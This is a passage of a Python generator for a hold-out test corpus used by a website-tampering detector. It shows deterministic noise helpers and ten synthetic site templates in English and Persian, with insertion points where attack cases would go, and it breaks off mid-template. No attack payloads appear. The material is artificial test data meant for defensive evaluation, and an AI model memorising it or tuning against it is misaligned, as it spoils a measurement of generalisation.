#!/usr/bin/env python3
"""Generate the website watch's hold-out validation corpus (tests/watch_holdout/).

usage: tests/watch_holdout/gen.py      (rewrites site/, benign/, attack/ here)

Written apart from the detector and from tests/watch_corpus, the way an
outside tester would write it: other sites, other page structures, other
wordings and tricks, and without reading the detector's rules. It measures
how well the watch generalises; it must never be tuned against.
Python 3 standard library only; deterministic (every random choice comes
from random.Random seeded with SEED and the case's name).

The output has the layout and the `expect` format of tests/watch_corpus
(see the docstring of tests/watch_corpus/gen.py):
    site/NAME/base1.html base2.html base3.html   three observations
    benign/CASE/ attack/CASE/  new.html + expect ("benign CLASS" |
        "attack CLASS", "site NAME", "url URL", "own DOMAIN",
        "other DOMAIN ORG NAME")
tests/unit/test_watch_corpus.c reads it (meson test test_watch_holdout).

Sites (page structures): a county court on Kentico, a university hospital
on a Rayan-style Persian portal, a provincial governor's office on a
Sadaf-style Persian CMS, a bilingual tax portal on Sitefinity, a parliament
research centre on Nuxt SSR, a customs service on DNN, a school district on
Hugo, a police force on Umbraco, a bilingual museum on Next.js, a town
council still on FrontPage tables.
"""
import os
import random
import shutil
import sys

SEED = 20261207
HERE = os.path.dirname(os.path.abspath(__file__))

FA_DIGITS = str.maketrans("0123456789", "۰۱۲۳۴۵۶۷۸۹")


def fa(n):
    return str(n).translate(FA_DIGITS)


def hexs(r, n):
    return "".join(r.choice("0123456789abcdef") for _ in range(n))


def b64s(r, n):
    a = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    return "".join(r.choice(a) for _ in range(n))


def alnum(r, n):
    a = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
    return "".join(r.choice(a) for _ in range(n))


# --------------------------------------------------------------------------
# Noise shared by every site: what changes between two observations.

def noise(r, i):
    day = 3 + i
    return {
        "gdate": "December %d, 2026" % day,
        "iso": "2026-12-%02dT%02d:%02d:00Z" % (day, r.randint(0, 23), r.randint(0, 59)),
        "jdate": "۱۴۰۵/۰۹/%s" % fa("%02d" % (12 + i)),
        "jdate_long": "%s آذر ۱۴۰۵" % fa(12 + i),
        "count": 100000 + i * 731 + r.randint(0, 500),
        "today": r.randint(200, 2200),
        "token": b64s(r, 88),
        "vs": b64s(r, 320),
        "nonce": b64s(r, 22) + "==",
        "sess": hexs(r, 32),
        "rnd": str(r.randint(132000000000000000, 133999999999999999)),
        "temp": r.randint(-4, 14),
    }


NEWS_EN = [
    "Board approves revised budget for the 2027 fiscal year",
    "Public hearing scheduled on the new parking ordinance",
    "Winter road maintenance schedule announced",
    "Annual report now available for download",
    "Volunteers honoured at community service awards",
    "Office hours extended during the holiday season",
    "New online appointment system launched",
    "Update on the bridge rehabilitation project",
    "Call for applications: youth advisory council",
    "Statement on the regional flooding response",
]
NEWS_FA = [
    "برگزاری نشست شورای اداری با حضور معاونان",
    "آغاز ثبت‌نام طرح ملی سلامت خانواده",
    "بازدید میدانی از پروژه‌های عمرانی شهرستان",
    "تمدید مهلت ارسال مدارک متقاضیان",
    "برگزاری همایش هفته پژوهش در تالار اصلی",
    "اطلاعیه درباره ساعات کاری ادارات در فصل سرما",
    "تقدیر از کارکنان نمونه در مراسم سالانه",
    "گزارش عملکرد شش‌ماهه منتشر شد",
    "جلسه هماهنگی ستاد مدیریت بحران برگزار شد",
    "راه‌اندازی سامانه نوبت‌دهی اینترنتی",
]


def news_items(pool, i, extra=()):
    items = list(extra) + [pool[(i + k) % len(pool)] for k in range(4)]
    return items


# --------------------------------------------------------------------------
# Site templates. Each render(r, i, m) returns the page; m holds the case's
# modifications: head, top, main_pre, main, foot (HTML inserted at those
# places), title, form_action, jq, cmsv, news (extra items).

def court(r, i, m):
    n = noise(r, i)
    title = m.get("title", "Northvale County Superior Court - Home")
    news = "".join('<li class="news-item"><a href="/News/2026/%d">%s</a><span class="date">%s</span></li>\n'
                   % (200 + k + i, t, n["gdate"]) for k, t in enumerate(news_items(NEWS_EN, i, m.get("news", ()))))
    return f"""<!DOCTYPE html>
<html lang="en">
<head id="head"><meta charset="utf-8" /><title>
	{title}
</title><meta name="viewport" content="width=device-width, initial-scale=1" />
<link href="/CMSPages/GetResource.ashx?stylesheetname=NVC_Main&amp;v={m.get('cmsv', '12.0.29')}" type="text/css" rel="stylesheet"/>
<link href="/App_Themes/NVCourts/css/print.css" rel="stylesheet" media="print" />
<script src="https://code.jquery.com/jquery-{m.get('jq', '3.6.0')}.min.js"></script>
<script src="/CMSPages/GetResource.ashx?scriptfile=%7e%2fCMSScripts%2fcustom%2fnvc.js&amp;v={m.get('cmsv', '12.0.29')}"></script>
{m.get('head', '')}</head>
<body class="LTR Chrome ENUS ContentBody">
{m.get('top', '')}<form method="post" action="{m.get('form_action', '/Home')}" id="form">
<div class="aspNetHidden">
<input type="hidden" name="__CMSCsrfToken" id="__CMSCsrfToken" value="{n['token']}" />
<input type="hidden" name="__VIEWSTATE" id="__VIEWSTATE" value="{n['vs']}" />
</div>
<div id="CMSHeaderDiv"></div>
<header class="site-header"><a href="/" class="logo"><img src="/NVCourts/media/Images/seal.png" alt="Seal of Northvale County" width="96" height="96"></a>
<ul id="menuElem" class="CMSListMenuUL"><li class="CMSListMenuLI"><a class="CMSListMenuLink" href="/Self-Help">Self-Help</a></li><li class="CMSListMenuLI"><a class="CMSListMenuLink" href="/Jury">Jury Duty</a></li><li class="CMSListMenuLI"><a class="CMSListMenuLink" href="/Forms">Forms &amp; Filing</a></li><li class="CMSListMenuLI"><a class="CMSListMenuLink" href="/Divisions">Divisions</a></li><li class="CMSListMenuLI"><a class="CMSListMenuLink" href="/Contact">Contact</a></li></ul>
<div class="search"><label for="q">Search</label><input type="text" name="q" id="q" /><input type="submit" name="btnSearch" value="Go" /></div>
</header>
<main id="main">
{m.get('main_pre', '')}<section class="alert-box"><p>Court is open {n['gdate']}. Jury reporting status: check after 5:00 p.m. the day before your service.</p></section>
<section class="hero"><h1>Welcome to the Superior Court of Northvale County</h1><p>The Court serves over 600,000 residents across four courthouses. Find information on traffic citations, small claims, family law, probate and jury service.</p></section>
<section class="news"><h2>Court News</h2><ul>
{news}</ul></section>
<section class="calendar"><h2>Today's Calendar</h2><table class="cal"><tr><th>Dept.</th><th>Judge</th><th>Time</th></tr>
<tr><td>{r.randint(1, 24)}</td><td>Hon. M. Alvarez</td><td>8:30 AM</td></tr><tr><td>{r.randint(1, 24)}</td><td>Hon. R. Okafor</td><td>1:30 PM</td></tr></table></section>
{m.get('main', '')}</main>
<footer><p>&copy; 2026 Superior Court of Northvale County | 1200 Justice Way, Northvale | <a href="/Accessibility">Accessibility</a> | <a href="/Privacy">Privacy</a></p>
<p class="updated">Page generated {n['iso']}</p></footer>
</form>
{m.get('foot', '')}</body>
</html>
"""


def hospital(r, i, m):
    n = noise(r, i)
    title = m.get("title", "بیمارستان سینا - دانشگاه علوم پزشکی تهران")
    news = "".join('<div class="rp-news"><a href="/Portal/Home/ShowPage.aspx?Object=News&amp;CategoryID=%s&amp;ID=%d">%s</a> <span>%s</span></div>\n'
                   % ("a1c3e5f0-7d42-4b8e-9f11-2c7d6e" + "%06d" % k, 9100 + k + i, t, n["jdate"])
                   for k, t in enumerate(news_items(NEWS_FA, i + 3, m.get("news", ()))))
    docs = ["دکتر رضایی - قلب", "دکتر محمدی - داخلی", "دکتر کریمی - اطفال", "دکتر حسینی - ارتوپدی", "دکتر صادقی - زنان"]
    r.shuffle(docs)
    return f"""<!DOCTYPE html>
<html dir="rtl" lang="fa">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<meta name="generator" content="Rayan Portal 4.2">
<title>{title}</title>
<link rel="stylesheet" href="/Portal/Themes/Sina/style.css?v={m.get('cmsv', '4.2.17')}">
<script src="/Portal/Scripts/jquery-{m.get('jq', '1.12.4')}.min.js"></script>
<script src="/Portal/Scripts/rayan.portal.js?v={m.get('cmsv', '4.2.17')}"></script>
{m.get('head', '')}</head>
<body>
{m.get('top', '')}<div id="rp-wrapper">
<div id="rp-header"><img src="/Portal/Images/logo-tums.png" alt="دانشگاه علوم پزشکی تهران" width="120" height="80"><h1>بیمارستان سینا</h1><span class="rp-date">امروز: {n['jdate_long']}</span></div>
<ul class="rp-menu"><li><a href="/Portal/Home/Default.aspx">صفحه اصلی</a></li><li><a href="/Portal/Home/ShowPage.aspx?Object=GeneralText&amp;ID=12">معرفی بیمارستان</a></li><li><a href="/Portal/Home/ShowPage.aspx?Object=GeneralText&amp;ID=19">بخش‌های بالینی</a></li><li><a href="https://nobat.tums.ac.ir/">نوبت‌دهی اینترنتی</a></li><li><a href="/Portal/Home/ShowPage.aspx?Object=GeneralText&amp;ID=31">تماس با ما</a></li></ul>
<div id="rp-content">
{m.get('main_pre', '')}<div class="rp-box"><h2>اخبار بیمارستان</h2>
{news}</div>
<div class="rp-box"><h2>پزشکان کشیک امروز</h2><ul><li>{docs[0]}</li><li>{docs[1]}</li><li>{docs[2]}</li></ul></div>
<div class="rp-box"><h2>پیگیری جواب آزمایش</h2><form method="post" action="{m.get('form_action', '/Portal/Lab/Result.aspx')}"><input type="hidden" name="__RequestVerificationToken" value="{n['token']}"><label>کد ملی</label><input name="nid"><label>کد پیگیری</label><input name="code"><button type="submit">مشاهده</button></form></div>
{m.get('main', '')}</div>
<div id="rp-footer"><p>نشانی: تهران، میدان حسن‌آباد، بیمارستان سینا - تلفن: ۶۶۷۰۲۰۶۱</p><p>تعداد بازدید امروز: {fa(n['today'])} | کل بازدیدها: {fa(n['count'])}</p><p>طراحی و پیاده‌سازی: پرتال رایان</p></div>
</div>
{m.get('foot', '')}</body>
</html>
"""


def governor(r, i, m):
    n = noise(r, i)
    title = m.get("title", "استانداری گلستان | پایگاه اطلاع‌رسانی")
    news = "".join('<li class="sdf-news-item"><a href="/Portal/News/ShowNews.aspx?ID=%d">%s</a><em>%s</em></li>\n'
                   % (48200 + k + i, t, n["jdate"]) for k, t in enumerate(news_items(NEWS_FA, i, m.get("news", ()))))
    slides = ["slide-hafte-basij.jpg", "slide-rooz-daneshjoo.jpg", "slide-ostandar-safar.jpg", "slide-entekhabat.jpg"]
    return f"""<!DOCTYPE html>
<html lang="fa" dir="rtl">
<head>
<meta charset="utf-8">
<title>{title}</title>
<meta name="author" content="سامانه مدیریت محتوای صدف">
<link href="/Portal/Theme/Ostan/css/sadaf.css?ver={m.get('cmsv', '9.1')}" rel="stylesheet">
<link href="/Portal/Theme/Ostan/fonts/iransans.css" rel="stylesheet">
<script src="/Portal/Theme/Ostan/js/jquery-{m.get('jq', '3.4.1')}.min.js"></script>
<script src="/Portal/Theme/Ostan/js/sadaf.min.js?ver={m.get('cmsv', '9.1')}"></script>
{m.get('head', '')}</head>
<body class="sdf-body">
{m.get('top', '')}<div class="sdf-top"><span>{n['jdate_long']}</span> <a href="/Portal/Home/Default.aspx?lang=en">English</a> <a href="/Portal/Home/Login.aspx">ورود کارکنان</a></div>
<header class="sdf-header"><img src="/Portal/Theme/Ostan/img/arm.png" alt="نشان جمهوری اسلامی ایران" width="70" height="70"><h1>استانداری گلستان</h1></header>
<nav class="sdf-nav"><a href="/Portal/Home/Default.aspx">خانه</a><a href="/Portal/Cms/Page.aspx?ID=101">درباره استانداری</a><a href="/Portal/Cms/Page.aspx?ID=110">معاونت‌ها</a><a href="/Portal/Cms/Page.aspx?ID=140">فرمانداری‌ها</a><a href="/Portal/Cms/Page.aspx?ID=160">میز خدمت</a><a href="/Portal/Cms/Page.aspx?ID=170">ارتباط با استاندار</a></nav>
<div class="sdf-main">
{m.get('main_pre', '')}<div class="sdf-slider"><img src="/Portal/File/Slides/{slides[i % 4]}" alt="اسلاید" width="900" height="300"></div>
<div class="sdf-col"><h3>اخبار استان</h3><ul>
{news}</ul></div>
<div class="sdf-col"><h3>پیام استاندار</h3><p>استانداری گلستان با هدف خدمت‌رسانی شایسته به مردم شریف استان، پاسخگوی درخواست‌ها و پیشنهادهای شماست.</p>
<form action="{m.get('form_action', '/Portal/Home/Search.aspx')}" method="get"><input name="q" placeholder="جستجو"><button>جستجو</button></form></div>
{m.get('main', '')}</div>
<footer class="sdf-footer"><p>کلیه حقوق این پایگاه متعلق به استانداری گلستان است.</p><p>بازدید امروز: {fa(n['today'])} - بازدید کل: {fa(n['count'])}</p></footer>
{m.get('foot', '')}</body>
</html>
"""


def tax(r, i, m):
    n = noise(r, i)
    title = m.get("title", "سازمان امور مالیاتی کشور | Iranian National Tax Administration")
    news = "".join('<div class="sf-news" data-sf-element="News"><a href="/fa/news/item/%d">%s</a><time>%s</time></div>\n'
                   % (7700 + k + i, t, n["jdate"]) for k, t in enumerate(news_items(NEWS_FA, i + 5, m.get("news", ()))))
    return f"""<!DOCTYPE html>
<html lang="fa" dir="rtl">
<head>
<meta charset="utf-8" />
<title>{title}</title>
<meta name="Generator" content="Sitefinity 14.4.8145.0 DX" />
<link href="/ResourcePackages/Bootstrap5/assets/dist/css/main.min.css?package=Bootstrap5&amp;v={m.get('cmsv', 'MTQuNC44MTQ1LjA%3d')}" rel="stylesheet" type="text/css" />
<script src="https://cdnjs.cloudflare.com/ajax/libs/jquery/{m.get('jq', '3.6.4')}/jquery.min.js" type="text/javascript"></script>
<script src="/ScriptResource.axd?d=kx7Qp0ZrVfA2WbN8s1YtLm3&amp;t=ffffffff9b7d03cf" type="text/javascript"></script>
<meta name="csrf-token" content="{n['token'][:44]}" />
{m.get('head', '')}</head>
<body>
{m.get('top', '')}<div class="container">
<header class="d-flex"><a href="/fa"><img src="/images/default-source/logo/inta-logo.png?sfvrsn=3c1a9f2e_2" alt="INTA" width="180" height="60"></a>
<nav><a href="/fa/services">خدمات الکترونیک</a> <a href="/fa/laws">قوانین و بخشنامه‌ها</a> <a href="/fa/taxpayers">مودیان</a> <a href="/en">English</a></nav></header>
{m.get('main_pre', '')}<div class="row" data-sf-element="Row"><div class="col-md-8">
<h2>آخرین اخبار</h2>
{news}<p class="en" dir="ltr" lang="en">Deadline for filing the annual income tax return of legal persons: end of Khordad. Taxpayers can file through my.tax.gov.ir.</p>
</div><div class="col-md-4"><h2>ورود به درگاه مودیان</h2>
<form action="{m.get('form_action', '/fa/login')}" method="post"><input name="__RequestVerificationToken" type="hidden" value="{n['token']}" /><input name="username" placeholder="شناسه کاربری"><input name="password" type="password"><button class="btn btn-primary">ورود</button></form>
<p>سامانه پاسخگویی: ۱۵۲۶</p></div></div>
{m.get('main', '')}<footer class="mt-4"><p>© سازمان امور مالیاتی کشور - Iranian National Tax Administration</p><p>Last update: {n['iso']} | بازدید: {fa(n['count'])}</p></footer>
</div>
{m.get('foot', '')}</body>
</html>
"""


def research(r, i, m):
    n = noise(r, i)
    title = m.get("title", "مرکز پژوهش‌های مجلس شورای اسلامی")
    items = news_items(NEWS_FA, i + 1, m.get("news", ()))
    news = "".join('<article data-v-3f2a1c8e class="report-card"><a href="/fa/report/show/%d" data-v-3f2a1c8e>%s</a><span data-v-3f2a1c8e>%s</span></article>\n'
                   % (1750000 + k + i * 3, t, n["jdate"]) for k, t in enumerate(items))
    bid = m.get("cmsv", "7f3c21a")
    nuxt = ('window.__NUXT__=(function(a,b,c,d){return {layout:"default",data:[{reports:[{id:%d,title:a,date:b},{id:%d,title:c,date:b}],views:%d}],fetch:{},error:d,serverRendered:true,config:{apiBase:"https://api.rc.majlis.ir",_app:{basePath:"/",assetsPath:"/_nuxt/"}}}}("%s","%s","%s",null));'
            % (1750000 + i * 3, 1750001 + i * 3, n["count"], items[0], n["jdate"], items[1]))
    return f"""<!doctype html>
<html data-n-head-ssr lang="fa" dir="rtl" data-n-head="%7B%22lang%22:%7B%22ssr%22:%22fa%22%7D%7D">
<head>
<title>{title}</title><meta data-n-head="ssr" charset="utf-8"><meta data-n-head="ssr" name="viewport" content="width=device-width, initial-scale=1"><meta data-n-head="ssr" data-hid="description" name="description" content="مرکز پژوهش‌های مجلس - گزارش‌های کارشناسی">
<link rel="preload" href="/_nuxt/runtime.{bid}.js" as="script"><link rel="preload" href="/_nuxt/commons/app.{bid}.js" as="script">
<link rel="stylesheet" href="/_nuxt/css/app.{bid}.css">
{m.get('head', '')}</head>
<body>
{m.get('top', '')}<div data-server-rendered="true" id="__nuxt"><div id="__layout"><div data-v-5b1e9d02 class="layout">
<header data-v-5b1e9d02 class="rc-header"><a href="/" data-v-5b1e9d02><img src="/logo-rc.svg" alt="مرکز پژوهش‌ها" width="160" height="48" data-v-5b1e9d02></a>
<nav data-v-5b1e9d02><a href="/fa/report" data-v-5b1e9d02>گزارش‌ها</a><a href="/fa/law" data-v-5b1e9d02>قوانین</a><a href="/fa/legislation" data-v-5b1e9d02>فرایند قانون‌گذاری</a><a href="/en" data-v-5b1e9d02>English</a></nav>
<form action="{m.get('form_action', '/fa/search')}" method="get" data-v-5b1e9d02><input name="q" placeholder="جستجو در گزارش‌ها" data-v-5b1e9d02></form></header>
<main data-v-5b1e9d02>
{m.get('main_pre', '')}<h2 data-v-3f2a1c8e>تازه‌ترین گزارش‌های کارشناسی</h2>
{news}{m.get('main', '')}</main>
<footer data-v-5b1e9d02><p>تهران، میدان بهارستان، مرکز پژوهش‌های مجلس شورای اسلامی - {n['jdate_long']}</p></footer>
</div></div></div><script>{nuxt}</script><script src="/_nuxt/runtime.{bid}.js" defer></script><script src="/_nuxt/commons/app.{bid}.js" defer></script><script src="/_nuxt/app.{bid}.js" defer></script>
{m.get('foot', '')}</body>
</html>
"""


def customs(r, i, m):
    n = noise(r, i)
    title = m.get("title", "Home | Cayman Islands Customs &amp; Border Control")
    news = "".join('<div class="DnnModule-NewsItem"><h4><a href="/News/ArticleID/%d">%s</a></h4><span class="SubHead">%s</span></div>\n'
                   % (5300 + k + i, t, n["gdate"]) for k, t in enumerate(news_items(NEWS_EN, i + 4, m.get("news", ()))))
    cdv = m.get("cmsv", "118")
    return f"""<!DOCTYPE html>
<html  lang="en-US">
<head id="Head"><meta content="text/html; charset=UTF-8" http-equiv="Content-Type" />
<!--*********************************************-->
<!-- DNN Platform - http://www.dnnsoftware.com   -->
<!-- Copyright (c) 2002-2026, by .NET Foundation -->
<!--*********************************************-->
<title>
	{title}
</title><link href="/Resources/Shared/stylesheets/dnndefault/7.0.0/default.css?cdv={cdv}" type="text/css" rel="stylesheet"/><link href="/Portals/_default/skins/cbc/skin.css?cdv={cdv}" type="text/css" rel="stylesheet"/>
<script src="/Resources/libraries/jQuery/{m.get('jq', '03_05_01')}/jquery.js?cdv={cdv}" type="text/javascript"></script>
<script src="/js/dnn.modalpopup.js?cdv={cdv}" type="text/javascript"></script>
{m.get('head', '')}</head>
<body id="Body">
{m.get('top', '')}<form method="post" action="{m.get('form_action', '/')}" id="Form" enctype="multipart/form-data">
<div class="aspNetHidden">
<input type="hidden" name="__EVENTTARGET" id="__EVENTTARGET" value="" />
<input type="hidden" name="__VIEWSTATE" id="__VIEWSTATE" value="{n['vs']}" />
</div>
<input name="__RequestVerificationToken" type="hidden" value="{n['token']}" />
<div id="siteWrapper">
<div class="header"><a id="dnn_dnnLOGO_hypLogo" title="Customs &amp; Border Control" href="https://www.customs.gov.ky/"><img id="dnn_dnnLOGO_imgLogo" src="/Portals/0/CBC-logo.png?ver=2021-03-02-141233-077" alt="CBC" /></a>
<ul class="topLevel"><li><a href="/Travellers">Travellers</a></li><li><a href="/Importers">Importers</a></li><li><a href="/Tariff">Tariff</a></li><li><a href="/Careers">Careers</a></li><li><a href="/Contact">Contact Us</a></li></ul></div>
<div id="dnn_ContentPane" class="contentPane">
{m.get('main_pre', '')}<div class="DnnModule DnnModule-DNN_HTML DnnModule-{400 + 1}"><a name="401"></a><div id="dnn_ctr401_ContentPane"><div id="dnn_ctr401_ModuleContent" class="DNNModuleContent ModDNNHTMLC"><div id="dnn_ctr401_HtmlModule_lblContent" class="Normal">
<h1>Protecting our borders, facilitating trade</h1><p>Customs &amp; Border Control collects import duty, processes travellers and goods, and enforces immigration law. Declare goods online with the CBC e-Declaration system.</p></div></div></div></div>
<div class="DnnModule DnnModule-News"><h2>Latest News</h2>
{news}</div>
<div class="rates"><p>Exchange rate for duty purposes ({n['gdate']}): KYD 1 = USD 1.{2000 + i * 0 + 19}</p></div>
{m.get('main', '')}</div>
<div class="footer"><span id="dnn_dnnCOPYRIGHT_lblCopyright" class="SkinObject">Copyright 2026 by Cayman Islands Government</span> <a id="dnn_dnnTERMS_hypTerms" class="SkinObject" rel="nofollow" href="https://www.customs.gov.ky/Terms">Terms Of Use</a></div>
</div>
<input name="ScrollTop" type="hidden" id="ScrollTop" />
<input name="__dnnVariable" type="hidden" id="__dnnVariable" autocomplete="off" value="`{{`__scdoff`:`1`,`sf_siteRoot`:`/`,`sf_tabId`:`{30 + 0}`}}" />
</form>
{m.get('foot', '')}</body>
</html>
"""


def school(r, i, m):
    n = noise(r, i)
    title = m.get("title", "Lakeshore Public Schools - ISD 812")
    css = m.get("cmsv", "4b8e1c0f93a2d7e6")
    lunch = ["Chicken tacos", "Cheese pizza", "Turkey sandwich", "Spaghetti &amp; meatballs", "Veggie stir fry"]
    items = news_items(NEWS_EN, i + 2, m.get("news", ()))
    news = "".join('<article class="post-summary"><h3><a href="/news/2026/12/%s/">%s</a></h3><time datetime="2026-12-0%d">%s</time></article>\n'
                   % ("-".join(t.lower().split()[:4]), t, min(3 + i, 9), n["gdate"]) for t in items)
    return f"""<!DOCTYPE html>
<html lang="en-us">
<head>
<meta name="generator" content="Hugo 0.121.1">
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>{title}</title>
<link rel="stylesheet" href="/css/main.min.{css}.css" integrity="sha256-{b64s(random.Random(css), 43)}=">
<link rel="icon" href="/favicon.ico">
{m.get('head', '')}</head>
<body class="home">
{m.get('top', '')}<header class="masthead"><a class="brand" href="/"><img src="/img/lakeshore-logo.svg" alt="Lakeshore Public Schools" width="220" height="64"></a>
<nav class="main-nav"><a href="/schools/">Schools</a><a href="/enrollment/">Enrollment</a><a href="/calendar/">Calendar</a><a href="/nutrition/">Nutrition</a><a href="/board/">School Board</a></nav></header>
<main>
{m.get('main_pre', '')}<section class="status"><p>Schools are on a regular schedule today, {n['gdate']}. Weather: {n['temp']}&deg;F.</p></section>
<section class="latest"><h2>District News</h2>
{news}</section>
<section class="menu"><h2>Today's Lunch</h2><p>{lunch[i % 5]}</p></section>
<section class="search"><form action="{m.get('form_action', '/search/')}" method="get"><input type="search" name="q" aria-label="Search the site"><button>Search</button></form></section>
{m.get('main', '')}</main>
<footer class="site-footer"><p>Lakeshore Public Schools &middot; 500 Harbor Drive, Lakeshore, MN 55900 &middot; (218) 555-0142</p><p>Lakeshore Public Schools does not discriminate on the basis of race, color, creed, religion, national origin, sex, disability or age.</p></footer>
<script src="/js/bundle.min.{css[:8]}.js" defer></script>
{m.get('foot', '')}</body>
</html>
"""


def police(r, i, m):
    n = noise(r, i)
    title = m.get("title", "Westmere Police | Keeping Westmere safe")
    appeals = ["Appeal after burglary in Harrow Lane", "Missing person: have you seen Daniel?", "Witness appeal following collision on the A38",
               "Arrest made after shop theft series", "Dashcam footage sought after road rage incident", "Warning about courier fraud calls"]
    items = list(m.get("news", ())) + [appeals[(i + k) % 6] for k in range(3)]
    news = "".join('<li class="appeal"><a href="/news/westmere/news/2026/december/%s/">%s</a><span>%s</span></li>\n'
                   % ("-".join(t.lower().split()[:3]).replace(":", "").replace("?", ""), t, n["gdate"]) for t in items)
    return f"""<!DOCTYPE html>
<html lang="en-GB">
<head>
<meta charset="utf-8">
<title>{title}</title>
<meta name="viewport" content="width=device-width, initial-scale=1">
<link rel="stylesheet" href="/css/site.min.css?v={m.get('cmsv', '20261101')}">
<script src="https://ajax.aspnetcdn.com/ajax/jQuery/jquery-{m.get('jq', '3.5.1')}.min.js"></script>
<script nonce="{n['nonce']}">window.wmp = {{ force: "Westmere", culture: "en-GB", build: "{m.get('cmsv', '20261101')}" }};</script>
{m.get('head', '')}</head>
<body>
{m.get('top', '')}<a class="skip-link" href="#main">Skip to main content</a>
<header class="wp-header"><a href="/"><img src="/media/1021/westmere-police-logo.png?width=240&amp;height=80&amp;rnd={n['rnd']}" alt="Westmere Police" width="240" height="80"></a>
<nav><a href="/ro/report/">Report</a><a href="/notices/">Contact us</a><a href="/advice/">Advice</a><a href="/news/">News and appeals</a><a href="/careers/">Careers</a></nav></header>
<main id="main">
{m.get('main_pre', '')}<div class="emergency"><p>In an emergency call 999. Not an emergency? Call 101 or report online.</p></div>
<section><h2>Latest news and appeals</h2><ul>
{news}</ul></section>
<section class="report"><h2>Report a crime online</h2><form action="{m.get('form_action', '/ro/report/ocr/')}" method="post"><input name="__RequestVerificationToken" type="hidden" value="{n['token']}"><label>Your email</label><input type="email" name="email"><button>Start report</button></form></section>
{m.get('main', '')}</main>
<footer><p>&copy; Westmere Police 2026</p><p><a href="/hyperlinks/cookies/">Cookies</a> <a href="/foi-ai/">Freedom of information</a></p></footer>
<script src="/scripts/site.min.js?v={m.get('cmsv', '20261101')}"></script>
{m.get('foot', '')}</body>
</html>
"""


def museum(r, i, m):
    n = noise(r, i)
    title = m.get("title", "National Museum of Persia | موزه ملی")
    bid = m.get("cmsv", "hX2kQp9sLw1vR7aT")
    exhibits = ["Achaemenid Gold / طلای هخامنشی", "The Cyrus Cylinder / منشور کوروش", "Islamic Ceramics / سفالینه‌های اسلامی",
                "Luristan Bronzes / مفرغ‌های لرستان", "Sasanian Silver / سیمینه‌های ساسانی"]
    ex = exhibits[i % 5]
    items = news_items(NEWS_EN, i + 6, m.get("news", ()))
    news = "".join('<li><a href="/en/news/%d">%s</a></li>' % (300 + k + i, t) for k, t in enumerate(items))
    nd = ('{"props":{"pageProps":{"exhibit":"%s","visitors":%d,"updated":"%s"},"__N_SSG":true},"page":"/[lang]","query":{"lang":"en"},"buildId":"%s","isFallback":false,"gsp":true,"locale":"en","locales":["en","fa"],"scriptLoader":[]}'
          % (ex.split(" / ")[0], n["count"], n["iso"], bid))
    return f"""<!DOCTYPE html><html lang="en"><head><meta charSet="utf-8"/><meta name="viewport" content="width=device-width"/><title>{title}</title><meta name="next-head-count" content="3"/><link rel="preload" href="/_next/static/css/{hexs(random.Random(bid), 16)}.css" as="style"/><link rel="stylesheet" href="/_next/static/css/{hexs(random.Random(bid), 16)}.css" data-n-g=""/><noscript data-n-css=""></noscript><script defer="" nomodule="" src="/_next/static/chunks/polyfills-c67a75d1b6f99dc8.js"></script><script src="/_next/static/chunks/webpack-{hexs(random.Random(bid + 'w'), 16)}.js" defer=""></script><script src="/_next/static/chunks/framework-{hexs(random.Random(bid + 'f'), 16)}.js" defer=""></script><script src="/_next/static/chunks/pages/%5Blang%5D-{hexs(random.Random(bid + 'p'), 16)}.js" defer=""></script><script src="/_next/static/{bid}/_buildManifest.js" defer=""></script><script src="/_next/static/{bid}/_ssgManifest.js" defer=""></script>
{m.get('head', '')}</head><body>{m.get('top', '')}<div id="__next"><div class="layout_wrap__k2Lx9"><header class="header_bar__Qe81s"><a href="/en"><img alt="National Museum" src="/logo.svg" width="150" height="50"/></a><nav><a href="/en/collections">Collections</a><a href="/en/visit">Visit</a><a href="/en/tickets">Tickets</a><a href="/fa">فارسی</a></nav></header>
<main class="home_main__Zp3aQ">{m.get('main_pre', '')}<section class="home_hero__Lm0Cw"><h1>Now showing: {ex}</h1><p>Open daily 9:00–17:00. موزه همه روزه از ساعت ۹ تا ۱۷ پذیرای بازدیدکنندگان است.</p></section>
<section><h2>News</h2><ul>{news}</ul></section>
<section class="home_tickets__9xQ2m"><form action="{m.get('form_action', '/api/tickets')}" method="post"><input type="hidden" name="csrfToken" value="{n['token'][:40]}"/><label>Date</label><input type="date" name="date"/><button>Book tickets</button></form></section>
{m.get('main', '')}</main><footer class="footer_f__8Ha1n"><p>© 2026 National Museum · موزه ملی · 30 Tir Street, Tehran</p></footer></div></div><script id="__NEXT_DATA__" type="application/json">{nd}</script>
{m.get('foot', '')}</body></html>
"""


def council(r, i, m):
    n = noise(r, i)
    title = m.get("title", "Town of Millbrook - Official Web Site")
    items = news_items(NEWS_EN, i + 7, m.get("news", ()))
    news = "".join('<tr><td><font face="Verdana" size="2"><img border="0" src="images/bullet.gif" width="9" height="9"> <a href="news/%d.htm">%s</a></font></td></tr>\n'
                   % (90 + k + i, t) for k, t in enumerate(items))
    return f"""<html>

<head>
<meta http-equiv="Content-Language" content="en-us">
<meta name="GENERATOR" content="Microsoft FrontPage 5.0">
<meta name="ProgId" content="FrontPage.Editor.Document">
<meta http-equiv="Content-Type" content="text/html; charset=windows-1252">
<title>{title}</title>
<script language="JavaScript" src="scripts/menu.js"></script>
{m.get('head', '')}</head>

<body bgcolor="#FFFFFF" topmargin="0" leftmargin="0">
{m.get('top', '')}<table border="0" cellpadding="0" cellspacing="0" width="760" align="center">
  <tr>
    <td colspan="2" bgcolor="#003366"><img border="0" src="images/banner.jpg" width="760" height="120" alt="Town of Millbrook"></td>
  </tr>
  <tr>
    <td bgcolor="#CCCC99" colspan="2"><marquee scrollamount="3"><font face="Verdana" size="2" color="#003366">Welcome to the Town of Millbrook! Town Hall is open Monday - Friday 8:00 AM to 4:30 PM. Today is {n['gdate']}.</font></marquee></td>
  </tr>
  <tr>
    <td width="160" valign="top" bgcolor="#E8E8D0">
    <p><font face="Verdana" size="2"><a href="index.htm">Home</a><br>
    <a href="selectboard.htm">Select Board</a><br>
    <a href="clerk.htm">Town Clerk</a><br>
    <a href="assessor.htm">Assessor</a><br>
    <a href="transfer.htm">Transfer Station</a><br>
    <a href="minutes.htm">Meeting Minutes</a></font></p>
    <form method="POST" action="{m.get('form_action', '_vti_bin/shtml.exe/search.htm')}"><input type="text" name="Search" size="12"><input type="submit" value="Go"></form>
    </td>
